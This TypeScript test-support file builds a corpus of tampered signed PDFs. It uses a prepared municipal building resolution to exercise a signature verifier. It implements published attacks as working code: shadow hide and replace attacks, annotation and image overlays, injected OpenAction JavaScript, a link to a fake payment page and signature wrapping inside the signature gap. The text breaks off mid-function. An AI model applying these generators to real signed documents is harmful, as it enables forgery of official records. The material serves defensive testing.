/**
 * The tamper corpus: files derived from signed documents by the attacks the literature on PDF
 * signatures describes (shadow attacks, incremental saving attacks, signature wrapping, universal
 * signature forgery — Mainka, Mladenov et al.) and by the legitimate extensions a signed document
 * may receive. Every file is built here, by code, from an official document the platform signs
 * end to end or from a prepared original signed by the stack's signing service.
 */
import assert from 'node:assert/strict';
import { PDFDocument, StandardFonts } from 'pdf-lib';
import { PdfDict, PdfRef, PdfStream, PdfString, dict, name, type PdfObject } from '../../../lib/pdf/objects.js';
import { PdfReader } from '../../../lib/pdf/reader.js';
import { ByteSink, writeObject } from '../../../lib/pdf/serialize.js';
import { revisionEnds } from '../../../domain/verification/revisions.js';
import { IncrementalUpdate } from '../../../signer/pdf/incremental.js';
import { run, saveTemp } from '../../signer/support/tools.js';
import { readFile } from 'node:fs/promises';

// ---------------------------------------------------------------------------------------------
// Small tools over the PDF object model

export function stream(content: string | Buffer, entries: Record<string, PdfObject> = {}): PdfStream {
  return new PdfStream(dict(entries), typeof content === 'string' ? Buffer.from(content, 'latin1') : content);
}

/** A form XObject (appearance stream) painting `content`, with Helvetica as /Helv. */
export function appearance(width: number, height: number, content: string): PdfStream {
  return stream(content, {
    Type: name('XObject'),
    Subtype: name('Form'),
    BBox: [0, 0, width, height],
    Resources: dict({
      Font: dict({
        Helv: dict({
          Type: name('Font'),
          Subtype: name('Type1'),
          BaseFont: name('Helvetica'),
          Encoding: name('WinAnsiEncoding'),
        }),
      }),
    }),
  });
}

/** A literal PDF string of Latin-1 text, for content streams. */
export function lit(text: string): string {
  return `(${text.replace(/([()\\])/g, '\\$1')})`;
}

/** Applies `change` to one incremental update of `pdf` and returns the extended file. */
export function withUpdate(pdf: Buffer, change: (update: IncrementalUpdate, reader: PdfReader) => void): Buffer {
  const reader = new PdfReader(pdf);
  const update = new IncrementalUpdate(reader);
  change(update, reader);
  return Buffer.concat([pdf, update.build().bytes]);
}

export function catalogRef(reader: PdfReader): PdfRef {
  return reader.trailer.get('Root') as PdfRef;
}

export function pageRefs(reader: PdfReader): PdfRef[] {
  const root = reader.resolveDict(catalogRef(reader))!;
  const pages = reader.resolveDict(root.get('Pages'))!;
  return reader.resolve(pages.get('Kids')) as PdfRef[];
}

/** A copy of the object as it is now (in the update, or else in the file), to change. */
function copyOf(update: IncrementalUpdate, ref: PdfRef): PdfDict {
  const value = update.current(ref);
  if (value instanceof PdfDict) return value.clone();
  throw new Error(`object ${ref.num} is not a dictionary`);
}

function formRef(reader: PdfReader): PdfRef {
  const form = reader.resolveDict(catalogRef(reader))!.get('AcroForm');
  assert.ok(form instanceof PdfRef, 'signed documents carry an indirect /AcroForm');
  return form;
}

/** The form field named `fieldName` (top-level /Fields). */
export function fieldRef(reader: PdfReader, fieldName: string): PdfRef {
  const fields = reader.resolve(reader.resolveDict(formRef(reader))!.get('Fields')) as PdfRef[];
  const found = fields.find((f) => {
    const t = reader.resolveDict(f)?.get('T');
    return t instanceof PdfString && t.toLatin1() === fieldName;
  });
  assert.ok(found, `the document has a field ${fieldName}`);
  return found;
}

/** Adds `annot` to the page's /Annots (the page dictionary or its indirect array). */
function addAnnotation(update: IncrementalUpdate, reader: PdfReader, pageRef: PdfRef, annot: PdfObject): void {
  const page = copyOf(update, pageRef);
  const annots = page.get('Annots');
  if (annots instanceof PdfRef) {
    update.set(annots, [...(reader.resolve(annots) as PdfObject[]), annot]);
  } else {
    page.set('Annots', [...((annots as PdfObject[] | undefined) ?? []), annot]);
    update.set(pageRef, page);
  }
}

function addField(update: IncrementalUpdate, reader: PdfReader, field: PdfRef): void {
  const ref = formRef(reader);
  const form = copyOf(update, ref);
  const fields = form.get('Fields');
  if (fields instanceof PdfRef) update.set(fields, [...(reader.resolve(fields) as PdfRef[]), field]);
  else {
    form.set('Fields', [...((fields as PdfRef[] | undefined) ?? []), field]);
    update.set(ref, form);
  }
}

/** Serializes one object as it appears in a file body. */
function objectBytes(num: number, value: PdfObject): Buffer {
  const sink = new ByteSink();
  sink.write(`${num} 0 obj\n`);
  writeObject(sink, value);
  sink.write('\nendobj\n');
  return sink.toBuffer();
}

function startxrefOf(pdf: Buffer): number {
  const at = pdf.lastIndexOf('startxref');
  return Number(/startxref\s+(\d+)/.exec(pdf.subarray(at, at + 40).toString('latin1'))![1]);
}

/**
 * An incremental update written by hand (cross-reference table): each entry is an object's
 * bytes, or an offset where the object already lies in the file (inside a signature's gap, say).
 */
function rawUpdate(
  pdf: Buffer,
  entries: { num: number; bytes?: Buffer; offset?: number }[],
  trailer: { root?: number } = {},
): Buffer {
  const reader = new PdfReader(pdf);
  assert.equal(reader.lastXref.kind, 'table', 'hand-written updates follow a cross-reference table');
  const parts: Buffer[] = [pdf.at(-1) === 0x0a ? Buffer.alloc(0) : Buffer.from('\n')];
  let at = pdf.length + parts[0]!.length;
  const offsets = new Map<number, number>();
  for (const e of entries.sort((a, b) => a.num - b.num)) {
    if (e.bytes) {
      offsets.set(e.num, at);
      parts.push(e.bytes);
      at += e.bytes.length;
    } else offsets.set(e.num, e.offset!);
  }
  let xref = 'xref\n';
  for (const [num, offset] of offsets) xref += `${num} 1\n${String(offset).padStart(10, '0')} 00000 n\r\n`;
  const size = Math.max(reader.size, ...[...offsets.keys()].map((n) => n + 1));
  const root = trailer.root ?? catalogRef(reader).num;
  const info = reader.trailer.get('Info');
  const id = reader.resolve(reader.trailer.get('ID'));
  const idText =
    Array.isArray(id) && id[0] instanceof PdfString
      ? `/ID [<${Buffer.from(id[0].bytes).toString('hex')}> <${Buffer.from(id[0].bytes).toString('hex')}>]`
      : '';
  xref += `trailer\n<</Size ${size}/Root ${root} 0 R${info instanceof PdfRef ? `/Info ${info.num} 0 R` : ''}${idText}/Prev ${startxrefOf(pdf)}>>\nstartxref\n${at}\n%%EOF\n`;
  parts.push(Buffer.from(xref, 'latin1'));
  return Buffer.concat([pdf, ...parts]);
}

/** The raw text of object `num` as the newest revision stores it (uncompressed objects only). */
function rawObject(pdf: Buffer, num: number): Buffer {
  const entry = new PdfReader(pdf).xref.get(num);
  assert.ok(entry && entry.type === 'offset', `object ${num} is stored uncompressed`);
  const end = pdf.indexOf('endobj', entry.offset, 'latin1');
  return pdf.subarray(entry.offset, end + 'endobj'.length);
}

// ---------------------------------------------------------------------------------------------
// The prepared original: a document built for the attacks that need something in place before
// signing (an overlay, a font and a form XObject the page uses, a filled text field, objects
// no page refers to yet, a second page, XMP metadata).

/** Object numbers of the prepared original. */
export const PREPARED = {
  catalog: 1,
  pages: 2,
  page: 3,
  resources: 4,
  contents: 5,
  font: 6,
  body: 7,
  overlay: 8,
  inspection: 9,
  amountAppearance: 10,
  amountField: 11,
  form: 12,
  info: 13,
  annex: 14,
  cover: 15,
  annexBody: 16,
  coverAppearance: 17,
  shadowBody: 18,
  shadowResources: 19,
  shadowFont: 20,
  metadata: 21,
} as const;

const HELVETICA = '<</Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding>>';

function xmp(title: string): string {
  return `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title><rdf:Alt><rdf:li xml:lang="x-default">${title}</rdf:li></rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`;
}

function streamText(content: string, extra = ''): string {
  return `<<${extra}/Length ${Buffer.byteLength(content, 'latin1')}>>\nstream\n${content}\nendstream`;
}

/**
 * Page 1 prints the resolution, the amount "$ 10.000" (drawn with font /F1) and, under a white
 * overlay (the second content stream), the hidden line "RECHAZADA, se ordena la demolición"; a
 * white square annotation covers a debt line; form XObject /X1 prints the inspection; text field
 * Monto holds "10.000". Objects 18-20 (content, resources, a font whose "1" draws a "9") are in
 * the file but no page uses them.
 */
export function preparedOriginal(): Buffer {
  const body = [
    'BT /F1 16 Tf 72 720 Td (Municipalidad de Prueba - Resoluci\\363n de obra 12/2026) Tj ET',
    'BT /F1 14 Tf 72 680 Td (Obra Calle 9 aprobada) Tj ET',
    'BT /F1 14 Tf 72 640 Td (Monto del derecho de construcci\\363n: $ 10.000) Tj ET',
    'BT /F1 14 Tf 72 560 Td (RECHAZADA, se ordena la demolici\\363n) Tj ET',
    'BT /F1 12 Tf 72 470 Td (Deuda pendiente: $ 250.000) Tj ET',
    'q 1 0 0 1 72 400 cm /X1 Do Q',
  ].join('\n');
  const overlay = 'q 1 1 1 rg 66 550 480 30 re f Q\nBT /F1 14 Tf 72 560 Td (Observaciones: ninguna) Tj ET';
  const shadow = [
    'BT /F1 16 Tf 72 720 Td (Municipalidad de Prueba - Resoluci\\363n de obra 12/2026) Tj ET',
    'BT /F1 14 Tf 72 680 Td (Obra Calle 9 NO aprobada) Tj ET',
    'BT /F1 14 Tf 72 640 Td (Monto del derecho de construcci\\363n: $ 990.000) Tj ET',
  ].join('\n');
  const objects: [number, string][] = [
    [1, '<</Type /Catalog /Pages 2 0 R /AcroForm 12 0 R /Metadata 21 0 R>>'],
    [2, '<</Type /Pages /Kids [3 0 R 14 0 R] /Count 2>>'],
    [
      3,
      '<</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources 4 0 R /Contents 5 0 R /Annots [11 0 R 15 0 R]>>',
    ],
    [4, '<</Font <</F1 6 0 R>> /XObject <</X1 9 0 R>>>>'],
    [5, '[7 0 R 8 0 R]'],
    [6, HELVETICA],
    [7, streamText(body)],
    [8, streamText(overlay)],
    [
      9,
      streamText(
        'BT /F1 12 Tf 0 10 Td (Inspecci\\363n final: conforme) Tj ET',
        '/Type /XObject /Subtype /Form /BBox [0 0 400 30] /Resources <</Font <</F1 6 0 R>>>>',
      ),
    ],
    [
      10,
      streamText(
        '/Tx BMC BT /F1 12 Tf 4 10 Td ($ 10.000) Tj ET EMC',
        '/Type /XObject /Subtype /Form /BBox [0 0 200 30] /Resources <</Font <</F1 6 0 R>>>>',
      ),
    ],
    [
      11,
      '<</Type /Annot /Subtype /Widget /FT /Tx /T (Monto) /V (10.000) /DA (/F1 12 Tf 0 g) /Rect [360 300 560 330] /F 4 /P 3 0 R /AP <</N 10 0 R>>>>',
    ],
    [12, '<</Fields [11 0 R] /DR <</Font <</F1 6 0 R>>>> /DA (/F1 12 Tf 0 g)>>'],
    [13, '<</Title (Resoluci\\363n de obra 12/2026) /Producer (Municipalidad de Prueba)>>'],
    [14, '<</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources 4 0 R /Contents 16 0 R>>'],
    [
      15,
      '<</Type /Annot /Subtype /Square /Rect [66 460 400 490] /F 4 /C [1 1 1] /IC [1 1 1] /P 3 0 R /AP <</N 17 0 R>>>>',
    ],
    [
      16,
      streamText(
        'BT /F1 14 Tf 72 720 Td (Anexo: plano de la obra) Tj ET\nBT /F1 10 Tf 72 690 Td (##FIN_TEXTO##) Tj ET',
      ),
    ],
    [17, streamText('1 1 1 rg 0 0 334 30 re f', '/Type /XObject /Subtype /Form /BBox [0 0 334 30]')],
    [18, streamText(shadow)],
    [19, '<</Font <</F1 20 0 R>> /XObject <</X1 9 0 R>>>>'],
    [
      20,
      '<</Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding <</Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [49 /nine]>>>>',
    ],
    [21, streamText(xmp('Resolución de obra 12/2026'), '/Type /Metadata /Subtype /XML')],
  ];
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  for (const [num, text] of objects) {
    offsets[num] = Buffer.byteLength(out, 'latin1');
    out += `${num} 0 obj\n${text}\nendobj\n`;
  }
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f\r\n`;
  for (let n = 1; n <= objects.length; n++) out += `${String(offsets[n]).padStart(10, '0')} 00000 n\r\n`;
  out += `trailer\n<</Size ${objects.length + 1} /Root 1 0 R /Info 13 0 R /ID [<5052455041524544> <5052455041524544>]>>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

// ---------------------------------------------------------------------------------------------
// The known defects

/** The page's content stream redefined (new drawing over it), its dictionary saying /Type /XRef. */
export function redefineContentAsXref(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const page = reader.resolveDict(pageRefs(reader)[0])!;
    const contents = page.get('Contents');
    const first =
      contents instanceof PdfRef && !Array.isArray(reader.getObject(contents.num))
        ? contents
        : (reader.resolve(contents) as PdfRef[])[0]!;
    const old = reader.decode(reader.getObject(first.num) as PdfStream);
    const text = old.toString('latin1').replace('Obra Calle 9 aprobada', 'Obra Calle 9 NO aprobada');
    const changed = text === old.toString('latin1') ? `q\n${text}\nQ\nq 1 0 0 rg 320 600 240 60 re f Q` : text;
    update.set(first, stream(changed, { Type: name('XRef') }));
  });
}

/** The page's /Contents becomes an indirect array that gains a stream whose dictionary says /FT /Sig. */
export function contentsArrayGainsSigStream(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const pageRef = pageRefs(reader)[0]!;
    const page = copyOf(update, pageRef);
    const paint = update.add(
      stream('q 1 1 1 rg 330 630 250 30 re f Q\nBT /Helv 14 Tf 340 640 Td ($ 990.000) Tj ET', { FT: name('Sig') }),
    );
    const contents = page.get('Contents') as PdfRef;
    if (Array.isArray(reader.getObject(contents.num))) {
      update.set(contents, [...(reader.getObject(contents.num) as PdfRef[]), paint]);
    } else {
      page.set('Contents', update.add([contents, paint]));
      update.set(pageRef, page);
    }
    // The prepared original's page resources are indirect: /Helv joins them only when it must.
    const resources = page.get('Resources');
    if (resources instanceof PdfDict) {
      const fonts = (reader.resolveDict(resources.get('Font')) ?? dict({})).clone();
      fonts.set('Helv', dict({ Type: name('Font'), Subtype: name('Type1'), BaseFont: name('Helvetica') }));
      page.set('Resources', resources.clone().set('Font', fonts));
      update.set(pageRef, page);
    }
  });
}

/** The prepared page: its indirect /Contents array gains a /FT /Sig stream painting "$ 990.000". */
export function preparedContentsGainSigStream(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update) => {
    const paint = update.add(
      stream('q 1 1 1 rg 300 630 260 30 re f Q\nBT /F1 14 Tf 310 640 Td ($ 990.000) Tj ET', { FT: name('Sig') }),
    );
    update.set(new PdfRef(PREPARED.contents, 0), [
      new PdfRef(PREPARED.body, 0),
      new PdfRef(PREPARED.overlay, 0),
      paint,
    ]);
  });
}

/** The unsigned number stamp Sello1 gets a new appearance: another number and date. */
export function restampSello(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const sello = fieldRef(reader, 'Sello1');
    const ap = update.add(
      appearance(
        240,
        36,
        `1 1 1 rg 0 0 240 36 re f 0 g BT /Helv 10 Tf 4 22 Td ${lit('Número: IF-2026-00009999-MVE-INTEN')} Tj 0 -14 Td ${lit('Villa Esperanza, 2 de enero de 2026')} Tj ET`,
      ),
    );
    update.set(sello, copyOf(update, sello).set('AP', dict({ N: ap })));
  });
}

// ---------------------------------------------------------------------------------------------
// Shadow attacks on the prepared original

/** Hide: the overlay content stream emptied, uncovering the hidden line. */
export function shadowHideOverlayEmptied(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update) => update.set(new PdfRef(PREPARED.overlay, 0), stream('')));
}

/** Hide: the white square annotation removed from the page, uncovering the debt line. */
export function shadowHideAnnotationRemoved(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const pageRef = new PdfRef(PREPARED.page, 0);
    const page = copyOf(update, pageRef);
    page.set(
      'Annots',
      (reader.resolve(page.get('Annots')) as PdfRef[]).filter((a) => a.num !== PREPARED.cover),
    );
    update.set(pageRef, page);
  });
}

/** Replace: the page's font redefined so that every "1" draws a "9" ($ 10.000 → $ 90.000). */
export function shadowReplaceFont(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update) =>
    update.set(
      new PdfRef(PREPARED.font, 0),
      dict({
        Type: name('Font'),
        Subtype: name('Type1'),
        BaseFont: name('Helvetica'),
        Encoding: dict({
          Type: name('Encoding'),
          BaseEncoding: name('WinAnsiEncoding'),
          Differences: [49, name('nine')],
        }),
      }),
    ),
  );
}

/** Replace: the form XObject the page draws redefined with other text. */
export function shadowReplaceXObject(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const old = reader.getObject(PREPARED.inspection) as PdfStream;
    update.set(
      new PdfRef(PREPARED.inspection, 0),
      new PdfStream(
        old.dict.clone(),
        Buffer.from('BT /F1 12 Tf 0 10 Td (Inspecci\\363n final: NO conforme, clausurar) Tj ET', 'latin1'),
      ),
    );
  });
}

/** Replace: the text field's value and appearance changed ("10.000" → "990.000"). */
export function shadowReplaceFieldValue(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const old = reader.getObject(PREPARED.amountAppearance) as PdfStream;
    update.set(
      new PdfRef(PREPARED.amountAppearance, 0),
      new PdfStream(old.dict.clone(), Buffer.from('/Tx BMC BT /F1 12 Tf 4 10 Td ($ 990.000) Tj ET EMC', 'latin1')),
    );
    const field = new PdfRef(PREPARED.amountField, 0);
    update.set(field, copyOf(update, field).set('V', PdfString.latin1('990.000')));
  });
}

/** Changing only /V of the existing text field (no new appearance). */
export function changeFieldValueOnly(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update) => {
    const field = new PdfRef(PREPARED.amountField, 0);
    update.set(field, copyOf(update, field).set('V', PdfString.latin1('990.000')));
  });
}

/** Hide-and-replace: the page's /Contents pointed at a stream prepared, unreferenced, before signing. */
export function shadowHideAndReplaceContents(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update) => {
    const pageRef = new PdfRef(PREPARED.page, 0);
    update.set(pageRef, copyOf(update, pageRef).set('Contents', new PdfRef(PREPARED.shadowBody, 0)));
  });
}

/** Hide-and-replace: the page's /Resources pointed at resources prepared, unreferenced, before signing. */
export function shadowHideAndReplaceResources(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update) => {
    const pageRef = new PdfRef(PREPARED.page, 0);
    update.set(pageRef, copyOf(update, pageRef).set('Resources', new PdfRef(PREPARED.shadowResources, 0)));
  });
}

// ---------------------------------------------------------------------------------------------
// Overlays on the first page

function overlay(pdf: Buffer, make: (update: IncrementalUpdate, page: PdfRef) => PdfDict): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const pageRef = pageRefs(reader)[0]!;
    addAnnotation(update, reader, pageRef, update.add(make(update, pageRef)));
  });
}

export function overlayFreeText(pdf: Buffer): Buffer {
  return overlay(pdf, (update, page) =>
    dict({
      Type: name('Annot'),
      Subtype: name('FreeText'),
      Rect: [300, 600, 580, 640],
      F: 4,
      P: page,
      Contents: PdfString.text('RECHAZADA'),
      DA: PdfString.latin1('/Helv 18 Tf 1 0 0 rg'),
      AP: dict({
        N: update.add(
          appearance(280, 40, `1 1 1 rg 0 0 280 40 re f 1 0 0 rg BT /Helv 18 Tf 6 14 Td ${lit('RECHAZADA')} Tj ET`),
        ),
      }),
    }),
  );
}

export function overlayStamp(pdf: Buffer): Buffer {
  return overlay(pdf, (update, page) =>
    dict({
      Type: name('Annot'),
      Subtype: name('Stamp'),
      Name: name('NotApproved'),
      Rect: [320, 500, 560, 560],
      F: 4,
      P: page,
      AP: dict({
        N: update.add(
          appearance(
            240,
            60,
            `1 0 0 RG 3 w 2 2 236 56 re S 1 0 0 rg BT /Helv 24 Tf 12 20 Td ${lit('NO APROBADO')} Tj ET`,
          ),
        ),
      }),
    }),
  );
}

/** A new text field with a value, its widget painted over the page. */
export function overlayTextFieldWidget(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const pageRef = pageRefs(reader)[0]!;
    const widget = update.add(
      dict({
        Type: name('Annot'),
        Subtype: name('Widget'),
        FT: name('Tx'),
        T: PdfString.text('Observacion'),
        V: PdfString.text('Se ordena la demolición'),
        DA: PdfString.latin1('/Helv 12 Tf 0 g'),
        Rect: [60, 560, 560, 590],
        F: 4,
        P: pageRef,
        AP: dict({
          N: update.add(
            appearance(
              500,
              30,
              `1 1 1 rg 0 0 500 30 re f 0 g BT /Helv 12 Tf 4 10 Td ${lit('Se ordena la demolición')} Tj ET`,
            ),
          ),
        }),
      }),
    );
    addField(update, reader, widget);
    addAnnotation(update, reader, pageRef, widget);
  });
}

/** An image XObject drawn over the page (a new content stream after the page's own). */
export function overlayImage(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const pageRef = pageRefs(reader)[0]!;
    const page = copyOf(update, pageRef);
    const image = update.add(
      stream(Buffer.alloc(64, 0x20), {
        Type: name('XObject'),
        Subtype: name('Image'),
        Width: 8,
        Height: 8,
        ColorSpace: name('DeviceGray'),
        BitsPerComponent: 8,
      }),
    );
    const resources = (reader.resolveDict(page.get('Resources')) ?? dict({})).clone();
    const xobjects = (reader.resolveDict(resources.get('XObject')) ?? dict({})).clone();
    xobjects.set('ImTamper', image);
    resources.set('XObject', xobjects);
    const draw = update.add(stream('q 240 0 0 60 320 600 cm /ImTamper Do Q'));
    const contents = page.get('Contents');
    page.set('Contents', [
      ...(Array.isArray(reader.resolve(contents)) ? (reader.resolve(contents) as PdfRef[]) : [contents as PdfRef]),
      draw,
    ]);
    page.set('Resources', resources);
    update.set(pageRef, page);
  });
}

export function overlayLink(pdf: Buffer): Buffer {
  return overlay(pdf, (_update, page) =>
    dict({
      Type: name('Annot'),
      Subtype: name('Link'),
      Rect: [60, 60, 560, 120],
      F: 4,
      P: page,
      Border: [0, 0, 0],
      A: dict({ S: name('URI'), URI: PdfString.latin1('https://pagos-municipales.example/pagar?multa=990000') }),
    }),
  );
}

// ---------------------------------------------------------------------------------------------
// Form and action changes

export function needAppearances(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const form = formRef(reader);
    update.set(form, copyOf(update, form).set('NeedAppearances', true));
  });
}

export function openActionJavaScript(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const root = catalogRef(reader);
    update.set(
      root,
      copyOf(update, root).set(
        'OpenAction',
        dict({ S: name('JavaScript'), JS: PdfString.latin1("app.alert('Documento anulado');") }),
      ),
    );
  });
}

export function pageAdditionalActions(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const pageRef = pageRefs(reader)[0]!;
    update.set(
      pageRef,
      copyOf(update, pageRef).set(
        'AA',
        dict({ O: dict({ S: name('JavaScript'), JS: PdfString.latin1("this.getField('Monto');") }) }),
      ),
    );
  });
}

// ---------------------------------------------------------------------------------------------
// Changes to signature fields

function changeField(
  pdf: Buffer,
  fieldName: string,
  change: (field: PdfDict, update: IncrementalUpdate) => void,
): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const ref = fieldRef(reader, fieldName);
    const field = copyOf(update, ref);
    change(field, update);
    update.set(ref, field);
  });
}

export const moveSignatureWidget = (pdf: Buffer) =>
  changeField(pdf, 'Firma1', (f) => f.set('Rect', [350, 600, 596, 672]));
export const hideSignatureWidget = (pdf: Buffer) => changeField(pdf, 'Firma1', (f) => f.set('F', 134));
export const replaceSignatureAppearance = (pdf: Buffer) =>
  changeField(pdf, 'Firma1', (f, update) =>
    f.set(
      'AP',
      dict({
        N: update.add(
          appearance(
            246,
            72,
            `0 g BT /Helv 11 Tf 6 50 Td ${lit('Firmado digitalmente por')} Tj 0 -16 Td ${lit('Otro Funcionario, Secretario')} Tj ET`,
          ),
        ),
      }),
    ),
  );

/** The signature field removed from the form's /Fields (its widget stays on the page). */
export function removeFromFields(pdf: Buffer, fieldName: string): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const ref = formRef(reader);
    const form = copyOf(update, ref);
    const target = fieldRef(reader, fieldName);
    form.set(
      'Fields',
      (reader.resolve(form.get('Fields')) as PdfRef[]).filter((f) => f.num !== target.num),
    );
    update.set(ref, form);
  });
}

// ---------------------------------------------------------------------------------------------
// Structure

/** The trailer's /Root pointed at a new catalog: the same pages, plus an /OpenAction. */
export function newCatalog(pdf: Buffer): Buffer {
  const reader = new PdfReader(pdf);
  const catalog = reader.resolveDict(catalogRef(reader))!.clone();
  catalog.set('OpenAction', dict({ S: name('JavaScript'), JS: PdfString.latin1("app.alert('Documento anulado');") }));
  return rawUpdate(pdf, [{ num: reader.size, bytes: objectBytes(reader.size, catalog) }], { root: reader.size });
}

export function addPage(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const pagesRef = reader.resolveDict(catalogRef(reader))!.get('Pages') as PdfRef;
    const pages = copyOf(update, pagesRef);
    const content = update.add(stream(`BT /Helv 14 Tf 72 720 Td ${lit('Anexo: se ordena la demolición')} Tj ET`));
    const page = update.add(
      dict({
        Type: name('Page'),
        Parent: pagesRef,
        MediaBox: [0, 0, 612, 792],
        Contents: content,
        Resources: dict({
          Font: dict({
            Helv: dict({
              Type: name('Font'),
              Subtype: name('Type1'),
              BaseFont: name('Helvetica'),
              Encoding: name('WinAnsiEncoding'),
            }),
          }),
        }),
      }),
    );
    pages.set('Kids', [...(reader.resolve(pages.get('Kids')) as PdfRef[]), page]);
    pages.set('Count', (pages.get('Count') as number) + 1);
    update.set(pagesRef, pages);
  });
}

/** The last page removed from the page tree. */
export function removeLastPage(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const pagesRef = reader.resolveDict(catalogRef(reader))!.get('Pages') as PdfRef;
    const pages = copyOf(update, pagesRef);
    const kids = reader.resolve(pages.get('Kids')) as PdfRef[];
    assert.ok(kids.length > 1, 'a page can be removed');
    pages.set('Kids', kids.slice(0, -1));
    pages.set('Count', kids.length - 1);
    update.set(pagesRef, pages);
  });
}

function changePage(pdf: Buffer, key: string, value: PdfObject): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const pageRef = pageRefs(reader)[0]!;
    update.set(pageRef, copyOf(update, pageRef).set(key, value));
  });
}

export const rotatePage = (pdf: Buffer) => changePage(pdf, 'Rotate', 90);
export const shrinkMediaBox = (pdf: Buffer) => changePage(pdf, 'MediaBox', [0, 300, 612, 792]);

/** The catalog, the form and the first page written again, byte for byte the same values. */
export function identicalRewrite(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update, reader) => {
    for (const ref of [catalogRef(reader), formRef(reader), pageRefs(reader)[0]!])
      update.set(ref, reader.getObject(ref.num)!);
  });
}

/** Only the document information dictionary changed (title, modification date). */
export function changeInfo(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const info = reader.trailer.get('Info');
    assert.ok(info instanceof PdfRef, 'the document has an /Info dictionary');
    update.set(
      info,
      copyOf(update, info)
        .set('Title', PdfString.text('Resolución anulada'))
        .set('ModDate', PdfString.latin1("D:20260301120000-03'00'")),
    );
  });
}

/** The catalog's XMP /Metadata stream replaced (another title). */
export function changeXmpMetadata(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const root = reader.resolveDict(catalogRef(reader))!;
    const current = root.get('Metadata');
    const xml = stream(xmp('Resolución anulada'), { Type: name('Metadata'), Subtype: name('XML') });
    if (current instanceof PdfRef) update.set(current, xml);
    else update.set(catalogRef(reader), copyOf(update, catalogRef(reader)).set('Metadata', update.add(xml)));
  });
}

export function addOutlines(pdf: Buffer): Buffer {
  return withUpdate(pdf, (update, reader) => {
    const pageRef = pageRefs(reader)[0]!;
    const outlines = update.reserve();
    const item = update.add(
      dict({ Title: PdfString.text('Resolución anulada'), Parent: outlines, Dest: [pageRef, name('Fit')] }),
    );
    update.set(outlines, dict({ Type: name('Outlines'), First: item, Last: item, Count: 1 }));
    const root = catalogRef(reader);
    update.set(root, copyOf(update, root).set('Outlines', outlines).set('PageMode', name('UseOutlines')));
  });
}

// ---------------------------------------------------------------------------------------------
// Signature wrapping and universal signature forgery

function signatureObject(reader: PdfReader, fieldName: string): PdfRef {
  const v = reader.resolveDict(fieldRef(reader, fieldName))!.get('V');
  assert.ok(v instanceof PdfRef, `${fieldName} has an indirect signature dictionary`);
  return v;
}

/**
 * Signature wrapping: the zero padding in the signature's /Contents gap (outside what is signed)
 * rewritten to hold a redefinition of the page's content stream, inside a literal string of the
 * signature dictionary; an update whose cross-reference points into the gap.
 */
export function objectsInSignatureGap(pdf: Buffer, fieldName = 'Firma1'): Buffer {
  const reader = new PdfReader(pdf);
  const sig = reader.resolveDict(signatureObject(reader, fieldName))!;
  const [, b, c] = reader.resolve(sig.get('ByteRange')) as number[];
  const contents = Buffer.from((sig.get('Contents') as PdfString).bytes);
  // The DER length of the CMS (SEQUENCE with a long-form length).
  const der =
    contents[1]! & 0x80 ? 2 + (contents[1]! & 0x7f) + contents.readUIntBE(2, contents[1]! & 0x7f) : 2 + contents[1]!;
  const pageContents = reader.resolveDict(pageRefs(reader)[0])!.get('Contents') as PdfRef;
  const payload = 'q 1 0 0 rg 60 560 500 80 re f Q';
  const object = `${pageContents.num} 0 obj\n<</Length ${payload.length}>>\nstream\n${payload}\nendstream\nendobj\n`;
  const prefix = `<${contents.subarray(0, der).toString('hex')}>/Wrapped (\n`;
  const suffix = ')/Padding <';
  const gap = c! - b!;
  assert.ok(prefix.length + object.length + suffix.length + 2 < gap, 'the padding holds the wrapped object');
  const filler = '0'.repeat(gap - prefix.length - object.length - suffix.length - 1);
  const copy = Buffer.from(pdf);
  copy.write(`${prefix + object + suffix + filler}>`, b!, 'latin1');
  return rawUpdate(copy, [{ num: pageContents.num, offset: b! + prefix.length }]);
}

/** The signature dictionary written again with a second /ByteRange pointing elsewhere. */
export function secondByteRange(pdf: Buffer, fieldName = 'Firma1'): Buffer {
  const reader = new PdfReader(pdf);
